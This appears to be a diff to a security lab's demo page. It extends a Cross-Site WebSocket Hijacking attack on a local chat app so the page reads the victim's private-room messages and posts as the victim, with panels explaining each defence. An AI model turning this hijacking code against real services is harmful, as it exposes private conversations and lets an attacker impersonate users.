@@ -33,6 +33,10 @@ function fillConfig() {
   for (const node of document.querySelectorAll('a[data-href]')) {
     node.href = config[node.getAttribute('data-href').split('+')[0]] + (node.getAttribute('data-href').split('+')[1] ?? '');
   }
+  // "Why" panels: <p data-when-off="origin"> explains what happens with that control switched off,
+  // <p data-when-on="origin"> what it does when it is on; each shows only when true of this run.
+  for (const node of document.querySelectorAll('[data-when-off]')) node.hidden = !config.disabled.includes(node.getAttribute('data-when-off'));
+  for (const node of document.querySelectorAll('[data-when-on]')) node.hidden = config.disabled.includes(node.getAttribute('data-when-on'));
   const banner = document.getElementById('disabled-banner');
   if (banner) {
     banner.hidden = config.disabled.length === 0;
@@ -181,8 +185,16 @@ export async function attemptWebSocket() {
   const result = await new Promise((resolve) => {
     const ws = new WebSocket(parleyWs);
     let opened = false;
-    const stolen = { user: null, rooms: [], messages: 0, posted: false };
+    /** notes: the victim's messages read from their private rooms ({ room, user, text }). */
+    const stolen = { user: null, rooms: [], messages: 0, posted: false, notes: [] };
+    /** Rooms whose history has not arrived yet; the socket closes once they all have and the post is acked. */
+    const waiting = new Set();
     const finish = (closeCode) => resolve({ opened, closeCode, stolen });
+    const done = () => {
+      if (stolen.posted && waiting.size === 0) ws.close(1000);
+    };
+    // Never hang the page on a frame that does not come.
+    const timer = setTimeout(() => ws.close(1000), 10_000);
     ws.addEventListener('open', () => {
       opened = true;
       step('The handshake was ACCEPTED (101): this page now holds a live Parley socket.', 'bad');
@@ -190,21 +202,37 @@ export async function attemptWebSocket() {
     ws.addEventListener('message', (message) => {
       const frame = JSON.parse(message.data);
       if (frame.type === 'rooms') {
+        if (stolen.user !== null) return; // a later update of the list
         stolen.user = frame.user;
         stolen.rooms = frame.rooms.map((room) => room.name);
         step(`Parley says the socket belongs to "${frame.user}"; their rooms: ${stolen.rooms.join(', ')}.`, 'bad');
-        ws.send(JSON.stringify({ type: 'join', room: 'lobby' }));
+        for (const room of frame.rooms) {
+          waiting.add(room.name);
+          ws.send(JSON.stringify({ type: 'join', room: room.name }));
+        }
       } else if (frame.type === 'history') {
-        stolen.messages = frame.messages.length;
-        step(`Read ${frame.messages.length} lobby messages through it.`, 'bad');
-        ws.send(JSON.stringify({ type: 'send', room: 'lobby', text: `Posted by ${location.origin} through a hijacked socket (CSWSH).`, clientId: 'lab-cswsh' }));
+        if (!waiting.delete(frame.room)) return;
+        const room = frame.room;
+        if (room === 'lobby') {
+          stolen.messages = frame.messages.length;
+          step(`Read ${frame.messages.length} lobby messages through it.`, 'bad');
+          ws.send(JSON.stringify({ type: 'send', room: 'lobby', text: `Posted by ${location.origin} through a hijacked socket (CSWSH).`, clientId: 'lab-cswsh' }));
+        } else {
+          const notes = frame.messages.map((m) => ({ room, user: m.user, text: textOf(m.html) }));
+          stolen.notes.push(...notes);
+          step(`Read the private room "${room}": ${notes.length} message(s) only its members should see.`, 'bad');
+        }
+        done();
       } else if (frame.type === 'ack' && frame.clientId === 'lab-cswsh') {
         stolen.posted = true;
         step(`Posted a message in the lobby as "${stolen.user}" (message id ${frame.id}).`, 'bad');
-        ws.close(1000);
+        done();
       }
     });
-    ws.addEventListener('close', (event) => finish(event.code));
+    ws.addEventListener('close', (event) => {
+      clearTimeout(timer);
+      finish(event.code);
+    });
   });
   const upgrade = await waitFor((event) => event.kind === 'upgrade', { after: since, timeoutMs: 5000 });
   const decision = await waitFor(
@@ -223,6 +251,11 @@ export async function attemptWebSocket() {
     if (refused) step(`Parley answered HTTP ${refused.status} (${refused.reason}) — see the server log below.`);
   }
   return { ...result, upgrade, refused };
+}
+
+/** A message's text: Parley sends sanitized HTML; this page only ever shows text (parsed inert, never inserted). */
+function textOf(html) {
+  return new DOMParser().parseFromString(html, 'text/html').body.textContent ?? '';
 }
 
 /** What each upgrade refusal means, for the verdict text. */
